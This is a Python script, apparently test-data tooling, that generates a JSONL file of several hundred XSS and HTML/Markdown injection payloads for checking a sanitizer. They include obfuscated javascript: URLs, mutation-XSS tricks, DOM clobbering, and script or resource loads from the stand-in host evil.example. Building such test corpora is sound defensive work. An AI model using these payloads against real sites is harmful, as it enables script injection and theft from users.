"""Write payloads.jsonl: texts that would run `planted()` or load something in a careless page.

Run it from the root of the repository: python tests/data/injection/make_payloads.py
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Literal

Format = Literal["plain", "markdown", "html"]
Payload = tuple[Format, str]

FILE = Path(__file__).with_name("payloads.jsonl")
AWAY = "https://evil.example"
SCRIPT = "<script>planted()</script>"
BROKEN_IMAGE = "<img src=x onerror=planted()>"

LOADING = (
    "img src=x", "input type=image src=x", "video src=x", "audio src=x", "video><source src=x",
    "body background=x", "link rel=stylesheet href=x", "script src=x", "iframe src=x",
    "object data=x", "embed src=x", "image src=x", "track src=x", "picture><img src=x",
)  # fmt: skip
SHOWN = (
    "p", "div", "span", "b", "a href=#", "li", "td", "table", "h1", "pre", "code", "blockquote",
    "svg", "math", "button", "input", "select", "textarea", "details open", "dialog open",
    "marquee", "form", "label", "summary", "video", "section class=footnotes", "x-y", "font",
)  # fmt: skip
EVENTS = (
    "onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart", "onbeforetoggle",
    "ontransitionend", "onwheel", "onscroll", "oncopy", "ontoggle", "onstart", "onload",
    "onauxclick", "onfocusin", "onscrollend", "onbeforematch", "oncontentvisibilityautostatechange",
)  # fmt: skip
ADDRESSES = (
    "javascript:planted()", "JaVaScRiPt:planted()", " javascript:planted()",
    "\tjavascript:planted()", "java\tscript:planted()", "java\nscript:planted()",
    "java\r\nscript:planted()", "\x01javascript:planted()", "\x1fjavascript:planted()",
    "javascript&colon;planted()", "javascript&#58;planted()", "javascript&#x3a;planted()",
    "&#106;avascript:planted()", "&#0000106avascript:planted()", "&#x6A&#x61vascript:planted()",
    "java&Tab;script:planted()", "java&NewLine;script:planted()", "java&#9;script:planted()",
    "java&#x0A;script:planted()", "javascript:planted&lpar;&rpar;", "javascript://%0aplanted()",
    "javascript://https://example.org/%0aplanted()", "javascript:'https://example.org/';planted()",
    "data:text/html,<script>planted()</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=planted()>", "DATA:text/html,x", "data:,planted()",
    "vbscript:planted()", "VBScript:planted()", "livescript:planted()", "mocha:planted()",
    "file:///etc/passwd", "blob:https://example.org/x", "about:blank", "view-source:x",
    "feed:javascript:planted()", "jar:javascript:planted()", "ws://evil.example", "intent:x",
    "\u00a0javascript:planted()", "\u200bjavascript:planted()", "\ufeffjavascript:planted()",
    "javascript\u200d:planted()", "\u202ejavascript:planted()", "//evil.example/x",
    "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https://\x00evil.example",
)  # fmt: skip
# What a careless reader of HTML may take for text although a browser does not.
CLOSERS = (
    "</style>", "</title>", "</textarea>", "</script>", "</noscript>", "</template>", "</xmp>",
    "</iframe>", "</noembed>", "</noframes>", "</plaintext>", "</select>", "</option>", "-->",
    "--!>", "]]>", "?>", "</svg>", "</math>", "</p></li></ol>", "</article></main></body></html>",
)  # fmt: skip
RAW_TEXT = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes",
            "plaintext", "template", "script", "option", "select")  # fmt: skip
FOREIGN = (
    "<svg><style><img src=x onerror=planted()></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=planted()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=planted()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=planted()>",
    "<math><annotation-xml encoding='text/html'><script>planted()</script></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=planted()>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.planted()</script>'></foreignObject>",
    "<svg><desc><img src=x onerror=planted()></desc></svg>",
    "<svg><title><style><img src=x onerror=planted()></style></title></svg>",
    "<svg><animate onbegin=planted() attributeName=x dur=1s>",
    "<svg><set onbegin=planted() attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:planted()/><text y=20>x</text></a>",
    "<svg><a xlink:href='javascript:planted()'><rect width=99 height=99 /></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=planted()>#x'></svg>",
    "<svg><use href='https://evil.example/x.svg#x'></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<svg><feImage href=https://evil.example/x.png></svg>",
    "<svg><script href=data:,planted()></script></svg>",
    "<svg><script>planted&lpar;&rpar;</script></svg>",
    "<svg><handler type=text/javascript ev:event=load>planted()</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='planted()'/>",
    "<math href='javascript:planted()'>x</math>",
    "<math><maction actiontype='statusline#javascript:planted()'>x</maction></math>",
    "<math xlink:href=javascript:planted()>x</math>",
    "<svg><p><style><g title='</style><img src=x onerror=planted()>'>",
    "<math><mi><table><tr><td><mi><style><img src=x onerror=planted()>",
    "<table><math><select><mglyph><style><img src=x onerror=planted()>",
    "<svg><![CDATA[><img src=x onerror=planted()>]]></svg>",
    "<![CDATA[><img src=x onerror=planted()>]]>",
)
CLOBBER = (
    "document", "getElementById", "body", "location", "cookie", "planted", "post-1", "post-2",
    "__proto__", "constructor", "attributes", "children", "toString", "head", "forms",
)  # fmt: skip
LOADERS = (
    f"<base href={AWAY}/>",
    f"<base target=_blank href={AWAY}><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:planted()'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *; script-src * '
    f"'unsafe-inline'\">{SCRIPT}",
    "<meta charset=utf-7>+ADw-script+AD4-planted()+ADw-/script+AD4-",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<link rel=preload as=script href={AWAY}/x.js>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<link rel=import href={AWAY}>",
    f"<link rel=icon href={AWAY}/x.ico>",
    f"<style>@import '{AWAY}/x.css';</style>",
    f"<style>*{{background:url({AWAY}/x)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}/x)}}*{{font-family:x}}</style>",
    f"<p style='background:url({AWAY}/x)'>x",
    f"<p style=\"background-image:u\\72l('{AWAY}/x')\">x",
    "<p style='width:expression(planted())'>x",
    "<p style='-moz-binding:url(x)'>x",
    "<p style='behavior:url(x)'>x",
    "<p style='position:fixed;inset:0;z-index:9'>x",
    f"<img src={AWAY}/x.png>",
    f"<img srcset='{AWAY}/x.png 1x'>",
    f"<img loading=eager lowsrc={AWAY}/x dynsrc={AWAY}/y src=x>",
    f"<picture><source srcset={AWAY}/x.png><img></picture>",
    f"<video poster={AWAY}/x.png></video>",
    f"<video autoplay><source src={AWAY}/x.mp4></video>",
    f"<audio src={AWAY}/x.ogg autoplay></audio>",
    f"<iframe src={AWAY}></iframe>",
    "<iframe srcdoc='<script>parent.planted()</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.planted()&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:parent.planted()></iframe>",
    "<iframe src='data:text/html,<script>parent.planted()</script>'></iframe>",
    "<frameset onload=planted()><frame src=javascript:planted()></frameset>",
    "<object data=javascript:planted()></object>",
    "<object data='data:text/html,<script>planted()</script>'></object>",
    "<object><param name=src value=javascript:planted()></object>",
    "<embed src=javascript:planted()>",
    f"<embed src={AWAY}/x.swf allowscriptaccess=always>",
    "<applet code=javascript:planted()></applet>",
    "<form action=javascript:planted()><button autofocus>x</button></form>",
    f"<form action={AWAY} method=post><input name=q><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:planted()>x</button>",
    f"<input type=image src={AWAY}/x.png formaction=javascript:planted()>",
    "<isindex type=image src=x onerror=planted()>",
    f"<a href={AWAY} ping={AWAY}/ping>x</a>",
    f"<a href={AWAY} target=_blank rel=opener>x</a>",
    f"<area href=javascript:planted()><map name=m><area href={AWAY}></map><img usemap=#m>",
    f"<body background={AWAY}/x.png onload=planted()>",
    f"<table background={AWAY}/x.png><td background={AWAY}/y.png>x</table>",
    f"<blockquote cite=javascript:planted()><q cite={AWAY}/x>x</q></blockquote>",
    f"<portal src={AWAY}></portal><fencedframe src={AWAY}></fencedframe>",
    f"<script type=module>import '{AWAY}/x.js'</script>",
    f"<script src={AWAY}/x.js></script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
    f"<template shadowrootmode=open>{BROKEN_IMAGE}</template>",
    f"<div><template shadowrootmode=open><slot></slot>{SCRIPT}</template></div>",
    "<xml id=x><a><b>&lt;img src=x onerror=planted()&gt;</b></a></xml>",
    "<!DOCTYPE html [<!ENTITY x '<script>planted()</script>'>]>&x;",
    "<?xml-stylesheet href='javascript:planted()'?>",
    "<?php echo '<script>planted()</script>' ?>",
    "<% planted() %>",
    f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->",
    f'<noscript><p title="</noscript>{BROKEN_IMAGE}"></noscript>',
    f'<p title="</p>{BROKEN_IMAGE}">x</p>',
)
UNCLOSED = (
    "<img src=x onerror=planted()", "<img src=x onerror=planted() //", "<script>planted()",
    "<script>planted()//", "<svg onload=planted()//", "<a href=\"javascript:planted()",
    "<a href='javascript:planted()' x=\"", "<!-- <img src=x onerror=planted()>",
    "<!--><img src=x onerror=planted()>", "<!---><img src=x onerror=planted()>",
    "<!--a--!><img src=x onerror=planted()>", "<!a><img src=x onerror=planted()>",
    "</a><img src=x onerror=planted()>", "</ a onmouseover=planted()>",
    "<//><img src=x onerror=planted()>", "<<script>planted()//<</script>",
    "<scr<script>ipt>planted()</scr</script>ipt>", "<scr\x00ipt>planted()</scr\x00ipt>",
    "<SCRIPT >planted()</SCRIPT >", "<script\x0c>planted()</script\x0c>",
    "<script/x>planted()</script>", "<script\n>planted()</script\n>",
    "<img/src=x/onerror=planted()>", "<img\tsrc=x\tonerror=planted()>",
    "<img\x0csrc=x\x0conerror=planted()>", "<img\x0bsrc=x onerror=planted()>",
    "<img src=x onerror\n=\nplanted()>", "<img src=`x`onerror=planted()>",
    "<img src='x'onerror='planted()'>", "<img src=\"x\"onerror=\"planted()\">",
    "<IMG SRC=X ONERROR=planted()>", "<img src=x onerror=&#112;lanted()>",
    "<img src=x onerror=planted&lpar;&rpar;>", "<img src=x oNeRrOr=planted()>",
    "<img src=x \"\"onerror=planted()>", "<img \"\"\"><script>planted()</script>\">",
    "<img src=x onerror=planted() x='", "\"><img src=x onerror=planted()>",
    "'><img src=x onerror=planted()>", "\" onmouseover=\"planted()\" autofocus x=\"",
    "' onfocus='planted()' autofocus tabindex=0 x='", "` onmouseover=planted() x=`",
    "\" accesskey=x onclick=planted() \"", "\u2028<script>planted()</script>",
    "\ufeff<script>planted()</script>", "\u202e<script>planted()</script>\u202c",
    "\u2066<img src=x onerror=planted()>", "＜script＞planted()＜/script＞",
    "‹script›planted()‹/script›",
    "\u00bcscript\u00beplanted()\u00bc/script\u00be", "&lt;script&gt;planted()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;planted()&amp;lt;/script&amp;gt;", "&#60;script&#62;planted()",
    "&#x3c;script&#x3e;planted()", "&#0000060script>planted()", "&lt<script>planted()</script>",
    "&ltscript&gtplanted()&lt/script&gt", "\\u003cscript\\u003eplanted()", "\\x3cscript\\x3e",
    "%3Cscript%3Eplanted()%3C/script%3E", "\x1b[31m<script>planted()</script>",
    "{{ 7 * 7 }}{% for x in () %}{{ cycler.__init__ }}", "${planted()}", "#{planted()}",
    "{{constructor.constructor('planted()')()}}", "<p v-html=\"planted()\" ng-init=planted()>x",
    "<p is=x-y onconnected=planted()>x", "\u0130mg src=x onerror=planted()",
    "<a\u00a0href=javascript:planted()>x</a>", "<img src=x\u3000onerror=planted()>",
)  # fmt: skip
DESTINATIONS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "[![x]({0})]({0})", "<{}>", "[x]\n\n[x]: {}",
    "[x]\n\n[x]: <{}> 'title'", "[x][y]\n\n[y]: {}",
)  # fmt: skip
MARKDOWN_ADDRESSES = (
    "javascript:planted()", "JaVaScRiPt:planted()", "javascript&colon;planted()",
    "java&#10;script:planted()", "&#x6A;avascript:planted()", "\\javascript:planted()",
    "javascript\\:planted()", "javascript:planted%28%29", "data:text/html,%3Cscript%3E",
    "vbscript:planted()", "https://example.org/\"onmouseover=planted()",
    "https://example.org/'onfocus='planted()", "https://example.org/&quot;onclick=planted()",
    f"{AWAY}/x.png",
)  # fmt: skip
MARKDOWN = (
    "[x](https://example.org \"x\\\" onmouseover=\\\"planted()\")",
    "[x](https://example.org 'x&quot; onmouseover=&quot;planted()')",
    "[x](https://example.org (\"><img src=x onerror=planted()>))",
    "![\"onerror=\"planted()](x)", "![x](x \"onerror='planted()'\")",
    "![<img src=x onerror=planted()>](x)", "![x](https://evil.example/x.png)",
    "[<img src=x onerror=planted()>](https://example.org)",
    "[x](https://example.org/<img src=x onerror=planted()>)", "<https://x.y/\"onclick=planted()>",
    "<javascript:planted()>", "<data:text/html,planted()>", "<x@y.z\"onclick=\"planted()>",
    "https://example.org/\"onmouseover=planted()", "www.example.org/'onclick='planted()",
    "```html onload=planted()\n<script>planted()</script>\n```",
    "```\"onmouseover=\"planted()\nx\n```", "```<img src=x onerror=planted()>\nx\n```",
    "~~~ '><script>planted()</script>\nx\n~~~", "`<script>planted()</script>`",
    "``<img src=x onerror=planted()>``", "    <script>planted()</script>",
    "```\n</code></pre><img src=x onerror=planted()>\n```",
    "$</code><img src=x onerror=planted()>$", "$$\n<script>planted()</script>\n$$",
    "$\\href{javascript:planted()}{x}$", "$\\url{javascript:planted()}$",
    "$\\htmlData{x=y}{<img src=x onerror=planted()>}$", "[^1]\n\n[^1]: <script>planted()</script>",
    "[^<img src=x onerror=planted()>]\n\n[^<img src=x onerror=planted()>]: x",
    "[^\"onclick=planted()]\n\n[^\"onclick=planted()]: [x](javascript:planted())",
    "[^__proto__]\n\n[^__proto__]: x", "[^1]: x\n\n[constructor][constructor]",
    "| <script>planted()</script> | b |\n| --- | :-: |\n| <img src=x onerror=planted()> | y |",
    "| a |\n|:-\"onclick=\"planted()-:|\n| b |", "- [x\"onclick=planted()] x",
    "- [ ] <input type=checkbox onclick=planted() autofocus onfocus=planted()>",
    "# <img src=x onerror=planted()>", "# x {#planted onclick=planted()}",
    "> <script>\n> planted()\n> </script>", "> <img src=x\n> onerror=planted()>",
    "<div onclick=planted()>\n\n*x*\n\n</div>", "<script>\n\nplanted()\n\n</script>",
    "<style>\n@import 'https://evil.example';\n</style>", "<!-- x -->\n<script>planted()</script>",
    "<!-- \n--> <img src=x onerror=planted()>", "<![CDATA[\n<script>planted()</script>\n]]>",
    "<?x\n<script>planted()</script>\n?>", "<pre onmouseover=planted()>\nx\n</pre>",
    "<textarea>\n</textarea><img src=x onerror=planted()>\n\n", "*<img src=x onerror=planted()>*",
    "**<b onmouseover=planted()>x**</b>", "~~<s onclick=planted()>~~",
    "a<br onload=planted()>b", "a\\\n<script>planted()</script>",
    "\\<script>planted()\\</script>", "\\\\<script>planted()</script>",
    "&lt;img src=x onerror=planted()&gt;", "&#60;img src=x onerror=planted()&#62;",
    "&NewLine;<script>planted()</script>", "[&#x5d;(javascript:planted())](x)",
    "[a](javas\ncript:planted())", "[a]( javascript:planted() )", "[a](\x00javascript:planted())",
    "![a][b]\n\n[b]: data:text/html,planted() \"><script>planted()</script>\"",
    "[a]: javascript:planted()\n[a]\n[A][a]", "*[x]: <script>planted()</script>\n\nx",
    "<a href=\"javascript:planted()\">*x*</a>", "<a href='x\n'\nonclick=planted()>x</a>",
    ":smile:<script>planted()</script>", "@planted<script>planted()</script>",
    "#tag\"onclick=planted()", "{name}<script>planted()</script>%s",
)  # fmt: skip


def payloads() -> Iterator[Payload]:
    """Yield every payload, family by family."""
    yield from (("html", f"<{tag} onerror=planted() onload=planted()>") for tag in LOADING)
    for number, tag in enumerate(SHOWN):
        events = (EVENTS[(number + step) % len(EVENTS)] for step in (0, 7))
        plants = " ".join(f"{event}=planted()" for event in events)
        yield "html", f"<{tag} {plants} autofocus tabindex=0 style=animation:x>x</{tag.split()[0]}>"
    for event in EVENTS:
        yield "html", f"<p {event}=planted() {event.upper()}='planted()' tabindex=0>x</p>"
    for number, address in enumerate(ADDRESSES):
        quote = "'\""[number % 2]
        yield "html", f"<a href={quote}{address}{quote}>x</a>"
        yield "html", f"<img src={quote}{address}{quote} alt=x>"
    for tag, closer in product(RAW_TEXT, ("", "<!--")):
        yield "html", f"<{tag}>{closer}</{tag}>{SCRIPT}"
        yield "html", f"<{tag}><p title='{closer}</{tag}>{BROKEN_IMAGE}'></{tag}>"
    yield from (("plain", f"{closer}{SCRIPT}") for closer in CLOSERS)
    yield from (("html", f"{closer}{BROKEN_IMAGE}") for closer in CLOSERS)
    yield from (("html", text) for text in (*FOREIGN, *LOADERS, *UNCLOSED))
    yield from (("plain", text) for text in UNCLOSED)
    for name in CLOBBER:
        yield "html", f"<a id={name} name={name} href=https://example.org/>x</a><p id={name}>y</p>"
        yield "html", f"<form name={name}><input name={name} id={name}></form>"
    for shape, address in product(DESTINATIONS, MARKDOWN_ADDRESSES):
        yield "markdown", shape.format(address)
    yield from (("markdown", text) for text in MARKDOWN)


def written() -> str:
    """Give the file: one payload a line, none twice."""
    lines = (
        json.dumps({"format": form, "text": text}, ensure_ascii=True)
        for form, text in dict.fromkeys(payloads())
    )
    return "".join(f"{line}\n" for line in lines)


if __name__ == "__main__":
    FILE.write_text(written(), encoding="utf-8")
